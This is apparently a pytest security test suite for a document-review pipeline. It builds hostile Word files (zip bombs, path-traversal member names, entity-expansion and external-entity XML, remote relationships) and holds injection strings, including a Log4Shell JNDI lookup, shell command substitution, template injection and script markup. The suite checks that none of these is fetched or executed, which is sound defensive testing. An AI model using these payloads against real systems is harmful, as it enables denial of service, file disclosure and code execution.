"""Hostile documents over the whole job: refused or reviewed within the limits, nothing fetched, followed or executed."""

from __future__ import annotations

import http.server
import io
import json
import os
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from builders import the_rules
from word_builders import a_word_file, changed, members_of, p, r, text_box, zipped

from pipeline.guard import guarded
from pipeline.ingest import Choice, Found, find_candidates
from pipeline.model import Limits, Rules
from pipeline.process import attempt
from pipeline.review import prepare_out, review
from pipeline.run import Works
from pipeline.workers import engine_of

pytestmark = pytest.mark.chaos

BODY = (
    "Overeenkomst",
    "Tussen de Stad Gent en Vereniging Voorbeeld, met zetel te Bern, Zwitserland.",
    "Artikel 1. Voorwerp",
    "De partijen werken samen.",
)


@dataclass(frozen=True)
class Trap:
    """A server that nobody should call, and a file that nobody should read."""

    address: str
    secret: Path
    calls: list[str]


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    calls: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802  # The name that the library calls.
            calls.append(self.path)
            self.send_error(404)

        def log_message(self, *_: Any) -> None: ...

    secret = tmp_path / "geheim.txt"
    secret.write_text("een-geheim-dat-nergens-mag-staan")
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield Trap(f"http://127.0.0.1:{server.server_address[1]}", secret, calls)
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def rules() -> Rules:
    return replace(the_rules(), limits=Limits(seconds=10.0, memory_bytes=1_500_000_000, max_unpacked_bytes=100_000_000))


def run_job(rules: Rules, tmp_path: Path, *files: tuple[str, bytes]) -> list[dict[str, Any]]:
    """Review files in a folder with real workers, and give the reports as they lie on the disk."""
    inbox, out = tmp_path / "in", tmp_path / "uit"
    inbox.mkdir(exist_ok=True)
    for name, content in files:
        (inbox / name).write_bytes(content)
    prepare_out(out)
    works = Works(rules, engine_of("local:2"), attempt, guarded)
    found: tuple[Found, ...] = find_candidates(inbox).found
    told = list(review(found, out, works, Choice(), resumes=False, now=lambda: datetime.now(UTC)))
    return [json.loads((out / report["folder"] / "report.json").read_bytes()) for report in told]


def an_agreement(*more: str) -> bytes:
    return a_word_file(*(p(r(text)) for text in BODY), *more)


def with_member(name: str, content: bytes) -> bytes:
    return zipped({**members_of(an_agreement()), name: content})


# --- The package


def a_bomb() -> bytes:
    return with_member("word/media/image1.bin", bytes(300_000_000))


def a_nested_bomb() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("leeg", bytes(90_000_000))
    return with_member("word/embeddings/oleObject1.bin", inner.getvalue() * 20)


def many_parts() -> bytes:
    return zipped({**members_of(an_agreement()), **{f"word/x{number}.xml": b"<x/>" for number in range(20_000)}})


def overlapping_entries() -> bytes:
    """Let a hundred entries of the directory point at one and the same compressed megabytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = compressor.compress(bytes(40_000_000)) + compressor.flush()
    crc = zlib.crc32(bytes(40_000_000))
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), 40_000_000, 1, 0) + b"x" + packed
    directory = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), 40_000_000, 4, 0, 0, 0, 0, 0, 0)
        + f"x{number:03}".encode()
        for number in range(100)
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 100, 100, len(directory), len(local), 0)
    return local + directory + end


def names_that_lead_out() -> bytes:
    return zipped(
        {**members_of(an_agreement()), "../../buiten.txt": b"x", "/tmp/buiten.txt": b"x", "C:\\buiten.txt": b"x"}
    )


# --- The parts


def entities_without_end() -> bytes:
    names = "abcdefghij"
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {name} "{f"&{names[at]};" * 20}">' for at, name in enumerate(names[1:])
    )
    xml = f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><w>&j;</w>'.encode()
    return with_member("word/document.xml", xml)


def depth_without_end() -> bytes:
    return a_word_file(
        *(p(r(text)) for text in BODY), "<w:sdt><w:sdtContent>" * 20_000 + "</w:sdtContent></w:sdt>" * 20_000
    )


def a_table_without_end() -> bytes:
    row = f"<w:tr>{'<w:tc><w:p/></w:tc>' * 1000}</w:tr>"
    return an_agreement(f"<w:tbl>{row * 300}</w:tbl>")


def one_paragraph_without_end() -> bytes:
    return an_agreement(p(r("mensenrechten schenden niet respecteren tenzij " * 100_000)))


def a_huge_image() -> bytes:
    header = struct.pack(">2L5B", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">L", len(header)) + b"IHDR" + header + struct.pack(">L", zlib.crc32(b"IHDR" + header))
    return with_member("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + chunk)


def macros() -> bytes:
    return with_member("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(5000))


@pytest.mark.parametrize(
    "make",
    [
        a_bomb,
        a_nested_bomb,
        many_parts,
        overlapping_entries,
        names_that_lead_out,
        entities_without_end,
        depth_without_end,
        a_table_without_end,
        one_paragraph_without_end,
        a_huge_image,
        macros,
    ],
    ids=lambda make: make.__name__,
)
def test_it_ends_in_a_report_within_its_limits_and_the_next_does_not_notice(
    rules: Rules, tmp_path: Path, make: Callable[[], bytes]
) -> None:
    began = time.monotonic()
    reports = run_job(rules, tmp_path, ("boos.docx", make()), ("goed.docx", an_agreement()))
    ended = {report["document"]["name"]: report["error"] and report["error"]["code"] for report in reports}
    assert ended["goed.docx"] is None
    assert ended["boos.docx"] != "fault"
    assert time.monotonic() - began < 2 * rules.limits.seconds + 20, "the second try alone included"
    assert not any(
        Path(place).exists() for place in ("/tmp/buiten.txt", tmp_path / "buiten.txt", tmp_path.parent / "buiten.txt")
    )


def test_a_document_of_which_nothing_stands_in_its_body_is_reviewed(rules: Rules, tmp_path: Path) -> None:
    content = a_word_file(p(text_box(p(r("Overeenkomst met Vereniging Voorbeeld")))))
    (report,) = run_job(rules, tmp_path, ("kader.docx", content))
    assert report["error"] is None
    assert "annotated" not in {output["kind"] for output in report["outputs"]}


# --- What leads outside


def external(target: str, kind: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'


@pytest.mark.parametrize("kind", ["image", "attachedTemplate", "oleObject", "hyperlink", "frame", "subDocument"])
@pytest.mark.parametrize("place", ["web", "file"])
def test_nothing_outside_is_fetched_or_read(rules: Rules, tmp_path: Path, trap: Trap, kind: str, place: str) -> None:
    target = f"{trap.address}/{kind}" if place == "web" else trap.secret.as_uri()
    content = an_agreement()
    for name in ("word/_rels/document.xml.rels",):
        content = changed(content, name, "</Relationships>", f"{external(target, kind)}</Relationships>")
    (report,) = run_job(rules, tmp_path, ("link.docx", content))
    assert (report["error"] or {}).get("code") != "fault"
    assert trap.calls == []
    assert _nothing_holds(tmp_path / "uit", b"een-geheim")


def test_an_entity_that_names_a_file_or_an_address_is_not_followed(rules: Rules, tmp_path: Path, trap: Trap) -> None:
    for number, target in enumerate((trap.secret.as_uri(), f"{trap.address}/dtd")):
        xml = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]><w>&x;</w>'.encode()
        run_job(rules, tmp_path, (f"entiteit {number}.docx", with_member("word/document.xml", xml)))
    assert trap.calls == []
    assert _nothing_holds(tmp_path / "uit", b"een-geheim")


# --- What is data stays data

TRICKS = (
    "{{ 7*7 }}{% for x in ''.__class__.__mro__ %}{% endfor %}",
    "=HYPERLINK(http://kwaad.invalid)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u202eomgekeerd\u202c",
    "${jndi:ldap://kwaad.invalid} $(touch /tmp/rc-kwaad) `touch /tmp/rc-kwaad`",
)


@pytest.mark.parametrize("trick", TRICKS, ids=["template", "formula", "markup", "direction", "shell"])
def test_what_a_document_says_is_shown_and_never_obeyed(rules: Rules, tmp_path: Path, trick: str) -> None:
    escaped = trick.replace("&", "&amp;").replace("<", "&lt;")
    party = f"Tussen de Stad Gent en {escaped} vzw, met zetel te Kabul, Afghanistan."
    content = a_word_file(
        p(r("Overeenkomst")), p(r(party)), p(r("Artikel 1. Voorwerp")), p(r(f"{escaped} werkt samen."))
    )
    (report,) = run_job(rules, tmp_path, (f"{trick[:30].replace('/', ' ')}.docx", content))
    assert (report["error"] or {}).get("code") not in ("fault", "killed")
    for path in (tmp_path / "uit").rglob("*.html"):
        told = path.read_text(encoding="utf-8")
        assert "<script>alert" not in told and "<img src=x" not in told
        assert ">49" not in told
    assert not Path("/tmp/rc-kwaad").exists()


def test_a_formula_in_a_summary_and_an_escape_code_in_a_terminal_are_harmless(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from pipeline.cli import cli

    (tmp_path / "in").mkdir()
    for name in ("=1+1.docx", "+cmd.docx", "@som.docx", "-2.docx", "\x1b[2Jweg.docx"):
        (tmp_path / "in" / name).write_bytes(b"geen document")
    named = [str(tmp_path / "in"), "--out", str(tmp_path / "uit"), "--summary", str(tmp_path / "som.csv")]
    done = CliRunner().invoke(cli, ["review", *named, "--workers", "inline"])
    lines = (tmp_path / "som.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
    assert len(lines) == 5
    assert all(not line.lstrip('"').startswith(("=", "+", "@", "-", "\x1b")) for line in lines)
    assert "\x1b" not in done.output


def _nothing_holds(folder: Path, secret: bytes) -> bool:
    for path in folder.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            if zipfile.is_zipfile(path):
                content += b"".join(members_of(content).values())
            if secret in content:
                return False
    return True


def test_no_file_of_the_hostile_material_ends_without_a_report(rules: Rules, tmp_path: Path) -> None:
    place = os.environ.get("MATERIAL")
    folder = None if place is None else Path(place) / "malformed"
    if folder is None or not folder.is_dir():
        pytest.skip("MATERIAL=DIR names a folder of foreign files with a folder `malformed` in it; none was named")
    out = tmp_path / "uit"
    prepare_out(out)
    works = Works(rules, engine_of("local:2"), attempt, guarded)
    found = find_candidates(folder).found
    reports = list(review(found, out, works, Choice(), resumes=False, now=lambda: datetime.now(UTC)))
    assert len(reports) == len(found)
    assert [report["document"]["name"] for report in reports if (report["error"] or {}).get("code") == "fault"] == []
